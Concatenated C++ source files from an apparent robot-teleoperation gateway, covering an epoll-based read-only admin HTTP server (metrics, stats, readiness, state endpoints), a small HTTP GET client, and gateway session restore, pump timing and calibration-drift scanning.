    append_u64_field(out, "out_of_order_accepted", st.out_of_order_accepted, &first);
    append_u64_field(out, "sessions_opened", st.sessions_opened, &first);
    append_u64_field(out, "sessions_evicted", st.sessions_evicted, &first);
    append_u64_field(out, "active_sessions", st.active_sessions, &first);
    append_u64_field(out, "drift_checks", st.drift_checks, &first);
    append_u64_field(out, "drift_alarms", st.drift_alarms, &first);
    out += "}, \"sessions\": [";
    for (std::size_t i = 0; i < snap->sessions.size(); ++i) {
      const SessionStats& s = snap->sessions[i];
      if (i != 0) out += ", ";
      out += "{\"id\": " + std::to_string(s.id);
      out += ", \"endpoint\": ";
      json::append_quoted(out, s.endpoint.to_string());
      out += ", \"active\": ";
      out += s.active ? "true" : "false";
      out += ", \"last_seen_ms\": " + std::to_string(s.last_seen_ms);
      bool f = true;
      out += ", \"ingest\": {";
      append_u64_field(out, "accepted", s.counters.accepted, &f);
      append_u64_field(out, "duplicates", s.counters.duplicates, &f);
      append_u64_field(out, "replayed", s.counters.replayed, &f);
      append_u64_field(out, "stale", s.counters.stale, &f);
      append_u64_field(out, "out_of_order", s.counters.out_of_order, &f);
      append_u64_field(out, "lost_gap", s.counters.lost_gap, &f);
      append_u64_field(out, "backpressure", s.counters.backpressure, &f);
      out += "}, \"ticks\": " + std::to_string(s.shard.ticks);
      out += ", \"alarms\": " + std::to_string(s.shard.alarms);
      out += ", \"blocked\": " + std::to_string(s.shard.blocked);
      out += ", \"estop\": ";
      out += s.shard.estop ? "true" : "false";
      char digest[24];
      std::snprintf(digest, sizeof(digest), "%016llx",
                    static_cast<unsigned long long>(s.shard.digest));
      out += ", \"digest\": \"";
      out += digest;
      out += "\"}";
    }
    out += "]";
    out += ", \"shards\": [";
    for (std::size_t i = 0; i < snap->shards.size(); ++i) {
      const ShardPipelineStats& sh = snap->shards[i];
      if (i != 0) out += ", ";
      out += "{\"index\": " + std::to_string(sh.index);
      out += ", \"ticks\": " + std::to_string(sh.ticks);
      out += ", \"ring_full\": " + std::to_string(sh.ring_full);
      out += ", \"queue_hwm\": " + std::to_string(sh.queue_hwm);
      out += "}";
    }
    out += "]";
  } else {
    out += ", \"sessions\": [], \"shards\": []";
  }

  out += ", \"recent_events\": [";
  if (const obs::EventLog* events = events_.load(std::memory_order_acquire)) {
    const std::vector<std::string> tail = events->recent(config_.recent_events);
    for (std::size_t i = 0; i < tail.size(); ++i) {
      if (i != 0) out += ", ";
      // The event log sanitizes its own records, but this document must
      // stay well-formed even against a log populated before that
      // guarantee existed — re-validate and demote anything broken to an
      // escaped string.
      if (json::parse(tail[i]).ok()) {
        out += tail[i];
      } else {
        json::append_quoted(out, tail[i]);
      }
    }
  }
  out += "]}";
  return out;
}

RG_THREAD(admin) std::string AdminServer::render_flight() const {
  const obs::FlightRecorder* recorder = flight_.load(std::memory_order_acquire);
  if (recorder == nullptr) return "{\"armed\": false}";
  if (!recorder->triggered()) return "{\"armed\": true, \"triggered\": false}";
  std::ostringstream os;
  recorder->write_json(os);
  return os.str();
}

RG_THREAD(admin) std::string AdminServer::render_state() const {
  const persist::StatePlane* plane = state_plane_.load(std::memory_order_acquire);
  std::string out = "{\"schema\": \"rg.admin.state/1\", \"attached\": ";
  if (plane == nullptr) {
    out += "false}\n";
    return out;
  }
  const persist::RecoveryResult& rec = plane->recovery();
  const persist::StatePlaneStats stats = plane->stats();
  out += "true, \"outcome\": \"";
  out += to_string(rec.outcome);
  out += "\", \"reason\": ";
  obs::EventLog::append_json_string(out, rec.reason);
  out += ", \"dir\": ";
  obs::EventLog::append_json_string(out, plane->dir());
  char digest[24];
  std::snprintf(digest, sizeof(digest), "%016llx",
                static_cast<unsigned long long>(plane->state_digest()));
  out += ", \"state_digest\": \"";
  out += digest;
  out += "\", \"last_lsn\": " + std::to_string(rec.last_lsn);
  out += ", \"wal_records_applied\": " + std::to_string(rec.wal_records_applied);
  out += ", \"snapshot_loaded\": ";
  out += rec.snapshot_loaded ? "true" : "false";
  out += ", \"ops_submitted\": " + std::to_string(stats.ops_submitted);
  out += ", \"ops_dropped\": " + std::to_string(stats.ops_dropped);
  out += ", \"ops_applied\": " + std::to_string(stats.ops_applied);
  out += ", \"flushes\": " + std::to_string(stats.flushes);
  out += ", \"wal_records\": " + std::to_string(stats.store.wal_records);
  out += ", \"wal_bytes\": " + std::to_string(stats.store.wal_bytes);
  out += ", \"snapshots\": " + std::to_string(stats.store.snapshots);
  out += ", \"journal_records\": " + std::to_string(stats.journal.records);
  out += ", \"journal_rt_dropped\": " + std::to_string(stats.journal.rt_dropped);
  out += ", \"write_errors\": " + std::to_string(stats.store.write_errors + stats.journal.write_errors);
  out += "}\n";
  return out;
}

RG_THREAD(admin) std::string AdminServer::render_ready() const {
  if (const persist::StatePlane* plane = state_plane_.load(std::memory_order_acquire)) {
    if (plane->fail_safe()) {
      return "failed: state-plane recovery fail-safe (" + plane->recovery().reason + ")\n";
    }
  }
  if (!thresholds_loaded_.load(std::memory_order_acquire)) {
    return "waiting: thresholds epoch not loaded\n";
  }
  if (gateway_ != nullptr) {
    const std::shared_ptr<const GatewaySnapshot> snap = gateway_->latest_snapshot();
    if (snap == nullptr) return "waiting: no gateway snapshot published yet\n";
    if (snap->estop_sessions != 0) {
      return "failed: " + std::to_string(snap->estop_sessions) +
             " active session(s) with latched E-STOP\n";
    }
  }
  return "";  // ready
}

RG_THREAD(admin) std::string AdminServer::handle(const std::string& request_line) {
  const std::uint64_t start_ns = obs::monotonic_ns();
  auto& reg = obs::Registry::global();
  reg.add(request_counter_);

  // Request line: METHOD SP PATH SP VERSION.
  const std::size_t method_end = request_line.find(' ');
  const std::size_t path_end =
      method_end == std::string::npos ? std::string::npos : request_line.find(' ', method_end + 1);
  if (method_end == std::string::npos || path_end == std::string::npos) {
    reg.add(bad_request_counter_);
    return http_response(400, kContentText, "malformed request line\n");
  }
  const std::string_view method = std::string_view(request_line).substr(0, method_end);
  std::string_view path =
      std::string_view(request_line).substr(method_end + 1, path_end - method_end - 1);
  if (const std::size_t q = path.find('?'); q != std::string_view::npos) path = path.substr(0, q);

  std::string response;
  if (method != "GET") {
    reg.add(bad_request_counter_);
    response = http_response(405, kContentText, "only GET is supported\n");
  } else if (path == "/metrics") {
    response = http_response(200, kContentProm, obs::to_prometheus(obs::Registry::global().snapshot()));
  } else if (path == "/metrics.json") {
    response = http_response(
        200, kContentJson,
        obs::to_live_json(obs::Registry::global().snapshot(), obs::monotonic_ns()));
  } else if (path == "/stats") {
    response = http_response(200, kContentJson, render_stats());
  } else if (path == "/healthz") {
    response = http_response(200, kContentText, "ok\n");
  } else if (path == "/readyz") {
    const std::string reason = render_ready();
    response = reason.empty() ? http_response(200, kContentText, "ready\n")
                              : http_response(503, kContentText, reason);
  } else if (path == "/flight") {
    response = http_response(200, kContentJson, render_flight());
  } else if (path == "/state") {
    response = http_response(200, kContentJson, render_state());
  } else {
    response = http_response(404, kContentText, "unknown endpoint\n");
  }
  reg.observe(request_hist_, obs::monotonic_ns() - start_ns);
  return response;
}

#if defined(__linux__)

namespace {

[[noreturn]] void fail(const char* what) {
  throw std::runtime_error(std::string{"AdminServer: "} + what + ": " + std::strerror(errno));
}

}  // namespace

/// Per-client state: request bytes accumulate until the header terminator,
/// then the rendered response drains as the socket accepts it.
struct AdminServer::Connection {
  std::string in;
  std::string out;
  std::size_t sent = 0;
  bool responding = false;
};

AdminServer::AdminServer(const AdminConfig& config, const TeleopGateway* gateway)
    : config_(config), gateway_(gateway) {
  auto& reg = obs::Registry::global();
  request_counter_ = reg.counter("rg.admin.requests");
  bad_request_counter_ = reg.counter("rg.admin.bad_requests");
  request_hist_ = reg.histogram("rg.admin.request_ns");

  listen_fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (listen_fd_ < 0) fail("socket");
  const int one = 1;
  (void)::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config.port);
  if (::inet_pton(AF_INET, config.bind_address.c_str(), &addr.sin_addr) != 1) {
    ::close(listen_fd_);
    throw std::runtime_error("AdminServer: invalid bind address: " + config.bind_address);
  }
  // rg-lint: allow(cast) -- BSD sockets API: sockaddr_in is the sockaddr it poses as
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(listen_fd_);
    fail("bind");
  }
  sockaddr_in bound{};
  socklen_t len = sizeof(bound);
  // rg-lint: allow(cast) -- BSD sockets API: sockaddr_in is the sockaddr it poses as
  if (::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&bound), &len) != 0) {
    ::close(listen_fd_);
    fail("getsockname");
  }
  bound_port_ = ntohs(bound.sin_port);
  if (::listen(listen_fd_, 16) != 0) {
    ::close(listen_fd_);
    fail("listen");
  }

  wake_fd_ = ::eventfd(0, EFD_NONBLOCK | EFD_CLOEXEC);
  if (wake_fd_ < 0) {
    ::close(listen_fd_);
    fail("eventfd");
  }
  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) {
    ::close(wake_fd_);
    ::close(listen_fd_);
    fail("epoll_create1");
  }
  epoll_event ev{};
  ev.events = EPOLLIN;
  ev.data.fd = listen_fd_;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, listen_fd_, &ev) != 0) fail("epoll_ctl(listen)");
  ev.data.fd = wake_fd_;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, wake_fd_, &ev) != 0) fail("epoll_ctl(wake)");

  thread_ = std::thread([this] { serve_loop(); });
}

AdminServer::~AdminServer() { stop(); }

RG_THREAD(any) void AdminServer::stop() {
  if (stopped_) return;
  stopped_ = true;
  stop_.store(true, std::memory_order_release);
  if (wake_fd_ >= 0) {
    const std::uint64_t one = 1;
    (void)!::write(wake_fd_, &one, sizeof(one));
  }
  if (thread_.joinable()) thread_.join();
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
  if (wake_fd_ >= 0) ::close(wake_fd_);
  if (listen_fd_ >= 0) ::close(listen_fd_);
  epoll_fd_ = wake_fd_ = listen_fd_ = -1;
}

RG_THREAD(admin) void AdminServer::serve_loop() {
  std::map<int, Connection> conns;
  std::array<epoll_event, 16> events{};
  const auto close_conn = [&](int fd) {
    (void)::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, fd, nullptr);
    ::close(fd);
    conns.erase(fd);
  };

  while (!stop_.load(std::memory_order_acquire)) {
    const int n = ::epoll_wait(epoll_fd_, events.data(), static_cast<int>(events.size()),
                               config_.poll_timeout_ms);
    if (n < 0) {
      if (errno == EINTR) continue;
      break;
    }
    for (int i = 0; i < n; ++i) {
      const int fd = events[static_cast<std::size_t>(i)].data.fd;
      const std::uint32_t flags = events[static_cast<std::size_t>(i)].events;
      if (fd == wake_fd_) {
        std::uint64_t drain = 0;
        (void)!::read(wake_fd_, &drain, sizeof(drain));
        continue;
      }
      if (fd == listen_fd_) {
        while (true) {
          const int client = ::accept4(listen_fd_, nullptr, nullptr,
                                       SOCK_NONBLOCK | SOCK_CLOEXEC);
          if (client < 0) break;  // EAGAIN or transient: next epoll pass retries
          epoll_event cev{};
          cev.events = EPOLLIN;
          cev.data.fd = client;
          if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, client, &cev) != 0) {
            ::close(client);
            continue;
          }
          conns.emplace(client, Connection{});
        }
        continue;
      }

      const auto it = conns.find(fd);
      if (it == conns.end()) continue;
      Connection& conn = it->second;
      if ((flags & (EPOLLHUP | EPOLLERR)) != 0) {
        close_conn(fd);
        continue;
      }

      if (!conn.responding && (flags & EPOLLIN) != 0) {
        char buf[1024];
        bool closed = false;
        while (true) {
          const ssize_t got = ::recv(fd, buf, sizeof(buf), 0);
          if (got > 0) {
            conn.in.append(buf, static_cast<std::size_t>(got));
            if (conn.in.size() > config_.max_request_bytes) break;
            continue;
          }
          if (got == 0) closed = true;
          break;
        }
        const std::size_t header_end = conn.in.find("\r\n\r\n");
        if (header_end != std::string::npos || conn.in.size() > config_.max_request_bytes) {
          std::string request_line = conn.in.substr(0, conn.in.find("\r\n"));
          if (conn.in.size() > config_.max_request_bytes) {
            obs::Registry::global().add(bad_request_counter_);
            conn.out = http_response(400, kContentText, "request too large\n");
          } else {
            conn.out = handle(request_line);
          }
          conn.responding = true;
          epoll_event cev{};
          cev.events = EPOLLOUT;
          cev.data.fd = fd;
          (void)::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, fd, &cev);
        } else if (closed) {
          close_conn(fd);
          continue;
        }
      }

      if (conn.responding && (flags & (EPOLLOUT | EPOLLIN)) != 0) {
        while (conn.sent < conn.out.size()) {
          const ssize_t put = ::send(fd, conn.out.data() + conn.sent,
                                     conn.out.size() - conn.sent, MSG_NOSIGNAL);
          if (put <= 0) break;  // EAGAIN: wait for the next EPOLLOUT
          conn.sent += static_cast<std::size_t>(put);
        }
        if (conn.sent >= conn.out.size()) close_conn(fd);
      }
    }
  }

  for (const auto& [fd, conn] : conns) ::close(fd);
}

Result<HttpResponse> http_get(const std::string& host, std::uint16_t port,
                              const std::string& path, int timeout_ms) {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return Error(ErrorCode::kInternal, "http_get: socket failed");
  struct FdGuard {
    int fd;
    ~FdGuard() { ::close(fd); }
  } guard{fd};

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) {
    return Error(ErrorCode::kInvalidArgument, "http_get: bad host address: " + host);
  }
  // rg-lint: allow(cast) -- BSD sockets API: sockaddr_in is the sockaddr it poses as
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) != 0 &&
      errno != EINPROGRESS) {
    return Error(ErrorCode::kTimeout, "http_get: connect failed");
  }
  pollfd pfd{fd, POLLOUT, 0};
  if (::poll(&pfd, 1, timeout_ms) <= 0) {
    return Error(ErrorCode::kTimeout, "http_get: connect timed out");
  }
  int soerr = 0;
  socklen_t soerr_len = sizeof(soerr);
  if (::getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &soerr_len) != 0 || soerr != 0) {
    return Error(ErrorCode::kTimeout, "http_get: connect failed");
  }

  const std::string request =
      "GET " + path + " HTTP/1.0\r\nHost: " + host + "\r\nConnection: close\r\n\r\n";
  std::size_t sent = 0;
  while (sent < request.size()) {
    const ssize_t put =
        ::send(fd, request.data() + sent, request.size() - sent, MSG_NOSIGNAL);
    if (put > 0) {
      sent += static_cast<std::size_t>(put);
      continue;
    }
    if (errno != EAGAIN && errno != EWOULDBLOCK) {
      return Error(ErrorCode::kTimeout, "http_get: send failed");
    }
    pfd.events = POLLOUT;
    if (::poll(&pfd, 1, timeout_ms) <= 0) {
      return Error(ErrorCode::kTimeout, "http_get: send timed out");
    }
  }

  std::string raw;
  char buf[4096];
  while (true) {
    const ssize_t got = ::recv(fd, buf, sizeof(buf), 0);
    if (got > 0) {
      raw.append(buf, static_cast<std::size_t>(got));
      continue;
    }
    if (got == 0) break;
    if (errno != EAGAIN && errno != EWOULDBLOCK) {
      return Error(ErrorCode::kTimeout, "http_get: recv failed");
    }
    pfd.events = POLLIN;
    if (::poll(&pfd, 1, timeout_ms) <= 0) {
      return Error(ErrorCode::kTimeout, "http_get: recv timed out");
    }
  }

  // "HTTP/1.x NNN ..." then headers then blank line then body.
  if (raw.size() < 12 || raw.compare(0, 5, "HTTP/") != 0) {
    return Error(ErrorCode::kMalformedPacket, "http_get: not an HTTP response");
  }
  const std::size_t status_at = raw.find(' ');
  if (status_at == std::string::npos || status_at + 4 > raw.size()) {
    return Error(ErrorCode::kMalformedPacket, "http_get: malformed status line");
  }
  int status = 0;
  for (std::size_t i = status_at + 1; i < status_at + 4 && i < raw.size(); ++i) {
    if (raw[i] < '0' || raw[i] > '9') {
      return Error(ErrorCode::kMalformedPacket, "http_get: malformed status code");
    }
    status = status * 10 + (raw[i] - '0');
  }
  const std::size_t body_at = raw.find("\r\n\r\n");
  if (body_at == std::string::npos) {
    return Error(ErrorCode::kMalformedPacket, "http_get: missing header terminator");
  }
  return HttpResponse{status, raw.substr(body_at + 4)};
}

#else  // !__linux__

struct AdminServer::Connection {};

AdminServer::AdminServer(const AdminConfig& config, const TeleopGateway* gateway)
    : config_(config), gateway_(gateway) {
  throw std::runtime_error("AdminServer requires Linux (epoll)");
}
AdminServer::~AdminServer() = default;
RG_THREAD(any) void AdminServer::stop() {}
RG_THREAD(admin) void AdminServer::serve_loop() {}

Result<HttpResponse> http_get(const std::string&, std::uint16_t, const std::string&, int) {
  return Error(ErrorCode::kInternal, "http_get requires Linux");
}

#endif

}  // namespace rg::svc
