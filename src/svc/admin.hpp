// AdminServer: the gateway's live introspection endpoint.
//
// A small HTTP/1.0 server on its own thread (non-blocking sockets +
// epoll, like UdpSocketTransport) serving read-only views of the
// telemetry plane:
//
//   GET /metrics       Prometheus text exposition of Registry::global()
//   GET /metrics.json  the same snapshot as "rg.metrics.live/1" JSON
//   GET /stats         "rg.admin.stats/1": gateway ledger + per-session
//                      table + recent safety events
//   GET /healthz       liveness ("ok" while the server thread runs)
//   GET /readyz        readiness = socket bound ∧ thresholds epoch
//                      loaded ∧ no active session with latched E-STOP
//                      ∧ state-plane recovery did not fail safe
//   GET /flight        most recent flight-recorder dump when one is
//                      armed and triggered
//   GET /state         "rg.admin.state/1": state-plane recovery decision
//                      (outcome, reason, digest) + durability counters
//
// The admin plane never touches the RG_REALTIME tick path and is
// lock-free with respect to the shards: /stats serves the sequenced
// GatewaySnapshot the pump thread publishes (TeleopGateway::
// latest_snapshot()), and /metrics merges the registry's per-thread
// shards under the registry mutex alone.  Verdict-digest determinism is
// therefore untouched no matter how hard the endpoint is polled
// (tests/test_admin.cpp hammers it under TSan).
//
// Linux-only (epoll), mirroring UdpSocketTransport: constructing on
// other platforms throws.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <thread>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "obs/events.hpp"
#include "obs/flight_recorder.hpp"
#include "obs/metrics.hpp"
#include "svc/gateway.hpp"

namespace rg::svc {

struct AdminConfig {
  std::string bind_address = "127.0.0.1";
  std::uint16_t port = 0;  ///< 0 = ephemeral (read back via bound_port())
  /// Requests longer than this are answered 400 and dropped.
  std::size_t max_request_bytes = 4096;
  /// How many tail events /stats embeds from the attached EventLog.
  std::size_t recent_events = 32;
  /// Serve-loop epoll timeout: the stop() latency upper bound.
  int poll_timeout_ms = 50;
};

/// A parsed HTTP response (shared by the raven_top/test client).
struct HttpResponse {
  int status = 0;
  std::string body;
};

/// Minimal blocking HTTP/1.0 GET for tools and tests: connects (with
/// timeout), sends the request, reads to EOF.  kTimeout on a slow or
/// unreachable server, kMalformedPacket on a garbled response.
[[nodiscard]] Result<HttpResponse> http_get(const std::string& host, std::uint16_t port,
                                            const std::string& path, int timeout_ms = 2000);

class AdminServer {
 public:
  /// `gateway` may be null (metrics-only exposition, /stats reports
  /// captured=false); when set it must outlive the server.
  AdminServer(const AdminConfig& config, const TeleopGateway* gateway);
  ~AdminServer();

  AdminServer(const AdminServer&) = delete;
  AdminServer& operator=(const AdminServer&) = delete;

  [[nodiscard]] std::uint16_t bound_port() const noexcept { return bound_port_; }

  /// Join the serve thread and close the socket.  Idempotent; the
  /// destructor calls it.
  RG_THREAD(any) void stop();

  /// Readiness input: whether a thresholds epoch is loaded.  Starts true
  /// (vacuously ready); tools that load a store flip it false → true
  /// around the load.
  void set_thresholds_loaded(bool loaded) noexcept {
    thresholds_loaded_.store(loaded, std::memory_order_release);
  }

  /// Attach the flight recorder /flight serves.  The recorder must
  /// outlive the server and must not be written concurrently with admin
  /// polls (attach a recorder owned by a quiescent or post-trigger
  /// session, or snapshot it first).
  void set_flight_recorder(const obs::FlightRecorder* recorder) noexcept {
    flight_.store(recorder, std::memory_order_release);
  }

  /// Attach the event log whose tail /stats embeds (thread-safe source;
  /// must outlive the server).
  void set_event_log(const obs::EventLog* events) noexcept {
    events_.store(events, std::memory_order_release);
  }

  /// Attach the crash-consistent state plane: /state serves its recovery
  /// decision + durability counters, and /readyz reports 503 while the
  /// plane is fail-safe (must outlive the server).
  void set_state_plane(const persist::StatePlane* plane) noexcept {
    state_plane_.store(plane, std::memory_order_release);
  }

 private:
  struct Connection;

  RG_THREAD(admin) void serve_loop();
  [[nodiscard]] RG_THREAD(admin) std::string handle(const std::string& request_line);
  [[nodiscard]] RG_THREAD(admin) std::string render_stats() const;
  [[nodiscard]] RG_THREAD(admin) std::string render_flight() const;
  [[nodiscard]] RG_THREAD(admin) std::string render_ready() const;
  [[nodiscard]] RG_THREAD(admin) std::string render_state() const;

  AdminConfig config_;
  const TeleopGateway* gateway_ = nullptr;
  std::atomic<bool> thresholds_loaded_{true};
  std::atomic<const obs::FlightRecorder*> flight_{nullptr};
  std::atomic<const obs::EventLog*> events_{nullptr};
  std::atomic<const persist::StatePlane*> state_plane_{nullptr};

  int listen_fd_ = -1;
  int epoll_fd_ = -1;
  int wake_fd_ = -1;
  std::uint16_t bound_port_ = 0;
  std::atomic<bool> stop_{false};
  bool stopped_ = false;
  std::thread thread_;

  obs::MetricId request_counter_;
  obs::MetricId bad_request_counter_;
  obs::MetricId request_hist_;
};

}  // namespace rg::svc
