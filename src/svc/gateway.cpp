#include "svc/gateway.hpp"

#include <algorithm>

#include "common/error.hpp"
#include "net/itp_packet.hpp"
#include "obs/span.hpp"

namespace rg::svc {

namespace {

/// Idle-eviction scans are throttled — the table walk is O(sessions) and
/// eviction granularity finer than this buys nothing at a 2 s timeout.
constexpr std::uint64_t kEvictScanPeriodMs = 50;

}  // namespace

TeleopGateway::TeleopGateway(const GatewayConfig& config, Transport& transport)
    : config_(config), transport_(transport) {
  require(config.shards >= 1, "TeleopGateway: at least one shard required");
  require(config.max_sessions >= 1, "TeleopGateway: max_sessions must be >= 1");
  auto& reg = obs::Registry::global();
  ingest_counter_ = reg.counter("rg.gw.rx_packets");
  accept_counter_ = reg.counter("rg.gw.accepted");
  reject_counter_ = reg.counter("rg.gw.rejected");
  drift_check_counter_ = reg.counter("rg.cal.drift_checks");
  drift_alarm_counter_ = reg.counter("rg.cal.drift_alarms");
  deadline_miss_counter_ = reg.counter("rg.gw.pump.deadline_miss");
  jitter_hist_ = reg.histogram("rg.gw.pump.jitter_ns");
  rx_batch_hist_ = reg.histogram("rg.gw.rx_batch_size");
  if (config_.pump_deadline_ns == 0) config_.pump_deadline_ns = 2 * config_.pump_period_ns;
  if (config_.rx_batch == 0) config_.rx_batch = 1;
  rx_slots_.resize(config_.rx_batch);
  // The calibration policy implies per-session sketches in every engine.
  if (config_.calibration.enabled) {
    config_.engine.calibration.enabled = true;
    config_.engine.calibration.target_quantile =
        target_quantile_for(config_.calibration.percentile);
  }
  shards_.reserve(config.shards);
  for (std::size_t i = 0; i < config.shards; ++i) {
    ShardConfig sc;
    sc.engine = config_.engine;
    sc.index = i;
    sc.max_queue = config.max_queue_per_shard;
    sc.threaded = config.threaded;
    sc.plant_seed_base = config.plant_seed_base;
    shards_.push_back(std::make_unique<GatewayShard>(sc));
    shards_.back()->start();
  }
  if (config_.persist != nullptr) restore_from_plane();
}

RG_THREAD(pump) void TeleopGateway::restore_from_plane() {
  persist::StatePlane& plane = *config_.persist;
  if (plane.fail_safe()) {
    // Unverifiable persisted state: never guess.  The gateway comes up
    // latched and rejects all traffic until an operator intervenes.
    fail_safe_ = true;
    if (config_.events != nullptr) {
      config_.events->emit("recovery_failed", std::nullopt,
                           {{"reason", plane.recovery().reason}});
    }
    return;
  }
  const persist::PersistentState state = plane.state();
  const MutexLock lock(table_mutex_);
  next_session_id_ = std::max(next_session_id_, state.next_session_id);
  for (const auto& [id, s] : state.sessions) {
    Endpoint ep{s.ip, s.port};
    SessionRecord rec;
    rec.id = id;
    rec.shard = id % shards_.size();
    rec.last_seen_ms = 0;
    rec.window.restore(s.newest, s.mask, s.started, config_.rejoin_guard);
    rec.estop_latched = s.estop;
    rec.estop_persisted = s.estop;
    table_.emplace(ep, rec);
    ++stats_.sessions_restored;
    (void)shards_[rec.shard]->submit(ShardItem{ShardItem::Kind::kOpen, rec.id, ItpBytes{}, 0});
  }
  restored_need_touch_ = !table_.empty();
  if (config_.events != nullptr && !state.sessions.empty()) {
    config_.events->emit("sessions_restored", std::nullopt,
                         {{"count", static_cast<std::uint64_t>(state.sessions.size())},
                          {"digest", plane.recovery().digest}});
  }
}

TeleopGateway::~TeleopGateway() { shutdown(); }

RG_THREAD(pump) std::size_t TeleopGateway::pump(std::uint64_t now_ms, std::size_t max) {
  RG_SPAN("gw.pump");
  // Pump-cadence SLO: the gap between consecutive pump entries should
  // track pump_period_ns; the jitter histogram and deadline-miss counter
  // are the signals raven_top and the admin /metrics endpoint surface.
  {
    const std::uint64_t enter_ns = obs::monotonic_ns();
    auto& reg = obs::Registry::global();
    if (last_pump_ns_ != 0) {
      const std::uint64_t gap = enter_ns - last_pump_ns_;
      const std::uint64_t jitter = gap > config_.pump_period_ns
                                       ? gap - config_.pump_period_ns
                                       : config_.pump_period_ns - gap;
      reg.observe(jitter_hist_, jitter);
      if (gap > config_.pump_deadline_ns) reg.add(deadline_miss_counter_);
    }
    last_pump_ns_ = enter_ns;
  }
  // Batched drain: rx_batch datagrams per poll_batch() call — one
  // recvmmsg on the UDP transport, one lock acquisition on the loopback.
  // ingest_ns is stamped once per batch (the batch arrived together; one
  // clock read instead of rx_batch of them), so the ingest→verdict
  // histogram measures pipeline latency from batch arrival.
  std::size_t drained = 0;
  {
    auto& reg = obs::Registry::global();
    while (drained < max) {
      const std::size_t want = std::min(config_.rx_batch, max - drained);
      const std::size_t n =
          transport_.poll_batch(std::span<RxDatagram>{rx_slots_.data(), want});
      if (n == 0) break;
      reg.observe(rx_batch_hist_, n);
      const std::uint64_t ingest_ns = obs::monotonic_ns();
      for (std::size_t i = 0; i < n; ++i) {
        note(ingest(rx_slots_[i].from, rx_slots_[i].payload(), now_ms, ingest_ns));
      }
      drained += n;
      if (n < want) break;  // transport ran dry mid-batch
    }
  }
  if (restored_need_touch_) {
    // Restored sessions carry no wall-clock: stamp them with the first
    // pump's time so the idle scan gives rejoining operators a full
    // idle_timeout_ms window.
    const MutexLock lock(table_mutex_);
    restored_need_touch_ = false;
    for (auto& [ep, rec] : table_) {
      if (rec.last_seen_ms == 0) rec.last_seen_ms = now_ms;
    }
  }
  if (now_ms - last_evict_scan_ms_ >= kEvictScanPeriodMs || last_evict_scan_ms_ == 0) {
    last_evict_scan_ms_ = now_ms;
    evict_idle(now_ms);
  }
  if (!config_.threaded) {
    for (auto& shard : shards_) shard->process_pending();
  }
  if (config_.calibration.enabled &&
      (now_ms - last_drift_scan_ms_ >= config_.calibration.scan_period_ms ||
       last_drift_scan_ms_ == 0)) {
    last_drift_scan_ms_ = now_ms;
    (void)scan_drift_now(now_ms);
  }
  if (config_.stats_publish_period_ms != 0 &&
      (now_ms - last_publish_ms_ >= config_.stats_publish_period_ms || last_publish_ms_ == 0)) {
    last_publish_ms_ = now_ms;
    publish_snapshot(now_ms);
  }
  return drained;
}

RG_THREAD(pump) void TeleopGateway::publish_snapshot(std::uint64_t now_ms) {
  auto snap = std::make_shared<GatewaySnapshot>();
  snap->now_ms = now_ms;
  snap->stats = stats();
  snap->sessions = sessions();
  snap->shards = shard_stats();
  for (const SessionStats& s : snap->sessions) {
    if (s.active && s.shard.estop) ++snap->estop_sessions;
  }
  // Live E-STOP latches become durable here (once per session): the
  // publish throttle is the natural place the pump thread observes the
  // shard-side PLC state.
  if (config_.persist != nullptr && snap->estop_sessions != 0) {
    const MutexLock lock(table_mutex_);
    for (const SessionStats& s : snap->sessions) {
      if (!s.active || !s.shard.estop) continue;
      auto it = table_.find(s.endpoint);
      if (it == table_.end() || it->second.estop_persisted) continue;
      it->second.estop_persisted = true;
      persist::StateOp op;
      op.kind = persist::StateOp::Kind::kEstop;
      op.session = s.id;
      op.flag = 1;
      (void)config_.persist->submit(op);
    }
  }
  const MutexLock lock(snapshot_mutex_);
  snap->seq = ++publish_seq_;
  snapshot_ = std::move(snap);
}

RG_THREAD(any) std::shared_ptr<const GatewaySnapshot> TeleopGateway::latest_snapshot() const {
  const MutexLock lock(snapshot_mutex_);
  return snapshot_;
}

RG_THREAD(pump) std::size_t TeleopGateway::scan_drift_now(std::uint64_t now_ms) {
  if (!config_.calibration.enabled) return 0;
  const CalibrationPolicy& policy = config_.calibration;
  auto& reg = obs::Registry::global();
  std::size_t newly_drifted = 0;
  for (auto& shard : shards_) {
    std::uint64_t checked = 0;
    const auto alarms = shard->scan_drift(policy.committed, policy.percentile, policy.max_ratio,
                                          policy.min_samples, &checked);
    reg.add(drift_check_counter_, checked);
    newly_drifted += alarms.size();
    for (const GatewayShard::DriftAlarm& alarm : alarms) {
      reg.add(drift_alarm_counter_);
      if (config_.events != nullptr) {
        config_.events->emit(
            "cal_drift", std::nullopt,
            {{"session", static_cast<std::uint64_t>(alarm.session)},
             {"now_ms", now_ms},
             {"variable", static_cast<std::uint64_t>(alarm.verdict.worst.variable)},
             {"axis", static_cast<std::uint64_t>(alarm.verdict.worst.axis)},
             {"observed", alarm.verdict.worst.observed},
             {"committed", alarm.verdict.worst.committed},
             {"ratio", alarm.verdict.worst.ratio},
             {"samples", alarm.verdict.samples}});
      }
    }
    if (checked != 0 || !alarms.empty()) {
      const MutexLock lock(table_mutex_);
      stats_.drift_checks += checked;
      stats_.drift_alarms += alarms.size();
    }
  }
  return newly_drifted;
}
